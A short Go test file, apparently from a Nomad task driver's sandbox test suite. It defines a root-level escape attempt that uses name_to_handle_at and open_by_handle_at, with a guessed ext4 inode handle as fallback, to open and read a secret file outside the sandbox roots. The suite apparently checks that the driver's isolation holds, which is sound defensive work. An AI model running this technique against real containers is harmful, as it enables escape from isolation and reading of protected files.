// Copyright (c) The nomad-driver-harn authors
// SPDX-License-Identifier: MPL-2.0

// Opens a file outside of every root by its handle, which it asked for by the directory's descriptor.

package main

import (
	"os"

	"golang.org/x/sys/unix"
)

func init() {
	attack(Attack{
		Root: true,
		Run: func() error {
			handle, _, err := unix.NameToHandleAt(unix.AT_FDCWD, secret(), 0)
			if err != nil {
				// Handles of ext4 can be guessed: inode numbers are small.
				handle = unix.NewFileHandle(1, []byte{2, 0, 0, 0, 0, 0, 0, 0})
			}
			dir, err := unix.Open(at("WORKSPACE"), unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
			must(err)
			fd, err := unix.OpenByHandleAt(dir, handle, unix.O_RDONLY)
			if err != nil {
				return err
			}
			return readFrom(os.NewFile(uintptr(fd), "secret"))
		},
	})
}
